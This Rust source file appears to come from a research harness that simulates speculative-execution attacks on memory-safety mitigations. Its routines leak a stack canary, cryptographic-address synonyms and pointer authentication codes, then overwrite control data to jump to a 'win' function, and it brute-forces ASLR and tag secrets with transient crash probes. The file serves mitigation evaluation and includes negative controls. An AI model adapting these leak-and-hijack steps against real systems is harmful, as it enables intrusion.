use super::primitives::{
    brute_force_secret, gadget_on, transient_crash_probe, transient_dereference_leak,
};
use super::victim::*;
use super::{AttackOutcome, BruteForce, GuessOrder, HarnessError, Inference, VictimProcess};
use crate::crypto::mix;
use crate::mitigation::{MitigationId, Protection, TaggedPointer};
use crate::side_channel::prime_probe;
use crate::sim::layout::{ATTACKER_BASE, MMAP_BASE};
use crate::sim::{ExecutionTrace, SimError};
use crate::Va;

/// Prime+Probe misses when the guessed CA decodes to the victim object: the
/// `cond` and `x` slots plus the object line.
pub const C3_SYNONYM_MISSES: usize = 3;
/// Misses for any other guess: only the two slots.
pub const C3_BASELINE_MISSES: usize = 2;

/// Whether a PoC builds its payload from the leaked secret or from a
/// deliberately wrong one.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Variant {
    #[default]
    Attack,
    NegativeControl,
}

fn outcome(
    p: &VictimProcess,
    scenario: &str,
    leaked: Vec<u8>,
    hijacked: bool,
    reason: Option<String>,
) -> AttackOutcome {
    AttackOutcome {
        scenario: scenario.to_string(),
        mitigation: p.mitigation,
        seed: p.config.seed,
        leaked_secret: leaked,
        attempts: p.attempts,
        probe_iterations: p.probe_iterations,
        crashes_observed: p.crashes_observed,
        wall_model_ms: p.wall_model_ms(),
        hijacked,
        feasibility: p.budget().feasibility(),
        reason,
        crash: None,
    }
}

fn blocked(
    p: &VictimProcess,
    scenario: &str,
    leaked: Vec<u8>,
    e: HarnessError,
) -> Result<AttackOutcome, HarnessError> {
    match e {
        HarnessError::GuardBlocked | HarnessError::NoSignal | HarnessError::Ambiguous(_) => {
            Ok(outcome(
                p,
                scenario,
                leaked,
                false,
                Some(format!("leak blocked: {e}")),
            ))
        }
        other => Err(other),
    }
}

/// Run `entry` architecturally. A fetch from a non-code address counts as a
/// crash of the victim.
fn run_victim(p: &mut VictimProcess, entry: &str) -> Result<Option<ExecutionTrace>, HarnessError> {
    p.machine.state.hijacked = false;
    let pc = p.victim.symbol(entry);
    match p.machine.run(&p.victim.program, pc) {
        Ok(trace) => {
            if trace.crash.is_some() {
                p.crashes_observed += 1;
            }
            Ok(Some(trace))
        }
        Err(SimError::UnmappedFetch(_)) => {
            p.crashes_observed += 1;
            Ok(None)
        }
        Err(e) => Err(e.into()),
    }
}

fn finish(
    p: &VictimProcess,
    scenario: &str,
    leaked: Vec<u8>,
    trace: Option<ExecutionTrace>,
) -> AttackOutcome {
    let (hijacked, reason) = match &trace {
        Some(t) if t.crash.is_none() && t.hijacked => (true, None),
        Some(t) => match &t.crash {
            Some(c) => (false, Some(format!("victim crashed: {:?}", c.kind))),
            None => (false, Some("control flow not redirected".to_string())),
        },
        None => (false, Some("victim crashed: wild jump".to_string())),
    };
    AttackOutcome {
        crash: trace.and_then(|t| t.crash),
        ..outcome(p, scenario, leaked, hijacked, reason)
    }
}

/// Stack canary: leak the reference canary byte by byte, then overflow the
/// stack buffer with `[pad | pad | canary | &win]`.
pub fn poc_canary(p: &mut VictimProcess, variant: Variant) -> Result<AttackOutcome, HarnessError> {
    const SCENARIO: &str = "poc_canary";
    let leaked = match transient_dereference_leak(p, CANARY_GLOBAL, 0, 8) {
        Ok(b) => b,
        Err(e) => return blocked(p, SCENARIO, Vec::new(), e),
    };
    let mut canary = u64::from_le_bytes(leaked.clone().try_into().expect("8 bytes"));
    if variant == Variant::NegativeControl {
        canary = canary.wrapping_add(1);
    }
    let payload = [
        0x4141_4141_4141_4141,
        0x4141_4141_4141_4141,
        canary,
        p.victim.win_addr(),
    ];
    for (i, w) in payload.iter().enumerate() {
        p.write(INPUT_BUF + 8 * i as u64, *w);
    }
    p.write(INPUT_LEN_SLOT, payload.len() as u64);
    let trace = run_victim(p, "vuln_entry")?;
    Ok(finish(p, SCENARIO, leaked, trace))
}

fn c3_set(p: &VictimProcess) -> usize {
    p.machine.cache.index(C3_OBJECT)
}

/// Prime the object's cache set, run the gadget through `guess` and count
/// misses on the probe.
pub fn c3_probe_misses(p: &mut VictimProcess, guess: u64) -> Result<usize, HarnessError> {
    let set = c3_set(p);
    let inputs = GadgetInputs {
        cond: 0,
        base: guess,
        x: 0,
        mask: 0,
    };
    let VictimProcess {
        machine,
        victim,
        noise,
        ..
    } = p;
    let (report, trace) = prime_probe(machine, set, ATTACKER_BASE, noise.as_mut(), |m| {
        gadget_on(m, victim, GadgetShape::TwoLoad, inputs)
    });
    let trace = trace?;
    p.attempts += 1;
    p.probe_iterations += report.addrs.len() as u64;
    if trace.crash.is_some() {
        p.crashes_observed += 1;
    }
    Ok(report.miss_count)
}

/// Step A of the C3 attack: find a CA that decodes to the victim object by
/// sweeping the ciphertext space and watching the object's cache set.
pub fn c3_find_synonym(p: &mut VictimProcess) -> Result<Option<u64>, HarnessError> {
    let Protection::C3(unit) = &p.machine.protection else {
        return Err(HarnessError::NotExecutable(p.mitigation));
    };
    let codec = unit.codec;
    let offset = C3_OBJECT;
    let order = GuessOrder::Permuted(mix(p.config.seed, 0xca));
    let budget = p.budget();
    let found = brute_force_secret(p, budget, order, |p, ct| {
        let guess = codec.ca_from_parts(ct, offset);
        Ok(c3_probe_misses(p, guess)? >= C3_SYNONYM_MISSES)
    })?;
    Ok(match found {
        BruteForce::Found { guess, .. } => Some(codec.ca_from_parts(guess, offset)),
        _ => None,
    })
}

/// C3: find a synonym CA, leak the object's function pointer through it,
/// derive the keystream difference from the known plaintext, and write
/// `&win` so that it decrypts correctly under the victim's CA.
pub fn poc_c3(p: &mut VictimProcess, variant: Variant) -> Result<AttackOutcome, HarnessError> {
    const SCENARIO: &str = "poc_c3";
    let Some(ca_attack) = c3_find_synonym(p)? else {
        return Ok(outcome(
            p,
            SCENARIO,
            Vec::new(),
            false,
            Some("no synonym CA found".into()),
        ));
    };
    let garbled = match transient_dereference_leak(p, ca_attack, 0, 8) {
        Ok(b) => b,
        Err(e) => return blocked(p, SCENARIO, ca_attack.to_le_bytes().to_vec(), e),
    };
    let garbled_fp = u64::from_le_bytes(garbled.try_into().expect("8 bytes"));
    // The victim's fp is known to hold &correct_func.
    let mask = match variant {
        Variant::Attack => garbled_fp ^ p.victim.correct_func(),
        Variant::NegativeControl => 0,
    };
    p.write(W_BASE_SLOT, 0);
    p.write(W_X_SLOT, ca_attack >> 3);
    p.write(W_Y_SLOT, p.victim.win_addr() ^ mask);
    let leaked = ca_attack.to_le_bytes().to_vec();
    if let Some(t) = run_victim(p, "write_site")? {
        if t.crash.is_some() {
            return Ok(finish(p, SCENARIO, leaked, Some(t)));
        }
    }
    let trace = run_victim(p, "dispatch")?;
    Ok(finish(p, SCENARIO, leaked, trace))
}

/// AOS: leak both PACs through the victim's own pointer (the parallel
/// bounds check lets the transient loads through), then pick the overflow
/// index so that `ptr_a + 8x` carries PAC_b and points at b's function
/// pointer.
pub fn poc_aos(p: &mut VictimProcess, variant: Variant) -> Result<AttackOutcome, HarnessError> {
    const SCENARIO: &str = "poc_aos";
    // The gadget and the overflow site both index off the victim's ptr_a.
    let ptr_a = p.read(PTR_A_SLOT);
    let ptr_b = p.read(PTR_B_SLOT);
    let pac_at = |p: &mut VictimProcess, slot: Va| {
        transient_dereference_leak(p, ptr_a, (slot + 6).wrapping_sub(AOS_A), 2)
    };
    let mut leaked = Vec::new();
    for slot in [PTR_A_SLOT, PTR_B_SLOT] {
        match pac_at(p, slot) {
            Ok(b) => leaked.extend(b),
            Err(e) => return blocked(p, SCENARIO, leaked, e),
        }
    }
    let pac_a = u16::from_le_bytes([leaked[0], leaked[1]]);
    let pac_b = u16::from_le_bytes([leaked[2], leaked[3]]);
    let x = match variant {
        Variant::Attack => {
            let from = TaggedPointer::new(AOS_A, pac_a).raw();
            let to = TaggedPointer::new(AOS_B, pac_b).raw();
            to.wrapping_sub(from) >> 3
        }
        Variant::NegativeControl => (AOS_B - AOS_A) >> 3,
    };
    p.write(W_BASE_SLOT, ptr_a);
    p.write(W_X_SLOT, x);
    p.write(W_Y_SLOT, p.victim.win_addr());
    if let Some(t) = run_victim(p, "write_site")? {
        if t.crash.is_some() {
            return Ok(finish(p, SCENARIO, leaked, Some(t)));
        }
    }
    p.write(OBJ_PTR_SLOT, ptr_b);
    let trace = run_victim(p, "dispatch")?;
    Ok(finish(p, SCENARIO, leaked, trace))
}

/// Recover a mitigation's secret by brute-forcing its check outcome with
/// transient crash probes. No exploit step follows.
pub fn probe_attack(p: &mut VictimProcess) -> Result<AttackOutcome, HarnessError> {
    const SCENARIO: &str = "probe";
    let budget = p.budget();
    let permuted = GuessOrder::Permuted(mix(p.config.seed, 0x6775));
    let result = match (p.mitigation, p.machine.protection.clone()) {
        (MitigationId::Aslr | MitigationId::Morpheus, _) => {
            let align = p.aslr.as_ref().map_or(0x1000, |a| a.align);
            brute_force_secret(p, budget, permuted, |p, k| {
                let guess = MMAP_BASE.wrapping_add(k.wrapping_mul(align));
                Ok(transient_crash_probe(p, guess, Inference::AnyHit)?.passed())
            })?
        }
        (MitigationId::Califorms, _) => {
            // Walk up from the object base until real data comes back; the
            // first non-zero byte ends the first redzone.
            brute_force_secret(p, budget, GuessOrder::Ascending, |p, k| {
                Ok(
                    transient_crash_probe(p, CALIFORMS_OBJECT + k, Inference::NonZeroLine)?
                        .passed(),
                )
            })?
        }
        (MitigationId::NoFatTemporal | MitigationId::ArmMte, Protection::Tag(unit)) => {
            brute_force_secret(p, budget, permuted, |p, t| {
                let guess = unit.tag_pointer(TAGGED_OBJECT, t as u16);
                Ok(transient_crash_probe(p, guess, Inference::AnyHit)?.passed())
            })?
        }
        (MitigationId::ArmPa, _) => brute_force_secret(p, budget, permuted, |p, pac| {
            let guess = TaggedPointer::new(FIXTURE_SLOT, pac as u16).raw();
            Ok(transient_crash_probe(p, guess, Inference::AnyHit)?.passed())
        })?,
        (MitigationId::C3, _) => {
            let found = c3_find_synonym(p)?;
            return Ok(match found {
                Some(ca) => outcome(p, SCENARIO, ca.to_le_bytes().to_vec(), false, None),
                None => outcome(
                    p,
                    SCENARIO,
                    Vec::new(),
                    false,
                    Some("no synonym CA found".into()),
                ),
            });
        }
        (other, _) => {
            return Ok(outcome(
                p,
                SCENARIO,
                Vec::new(),
                false,
                Some(format!("{other} has no check outcome to probe")),
            ))
        }
    };
    Ok(match result {
        BruteForce::Found { guess, .. } => {
            let secret = match p.mitigation {
                MitigationId::Aslr | MitigationId::Morpheus => {
                    guess.wrapping_mul(p.aslr.as_ref().map_or(0x1000, |a| a.align))
                }
                _ => guess,
            };
            outcome(p, SCENARIO, secret.to_le_bytes().to_vec(), false, None)
        }
        BruteForce::Exhausted { attempts } => outcome(
            p,
            SCENARIO,
            Vec::new(),
            false,
            Some(format!("no guess passed after {attempts} attempts")),
        ),
        BruteForce::Infeasible { max_attempts } => outcome(
            p,
            SCENARIO,
            Vec::new(),
            false,
            Some(format!(
                "infeasible: {} expected attempts, {max_attempts} fit in one window",
                budget.expected_attempts()
            )),
        ),
    })
}
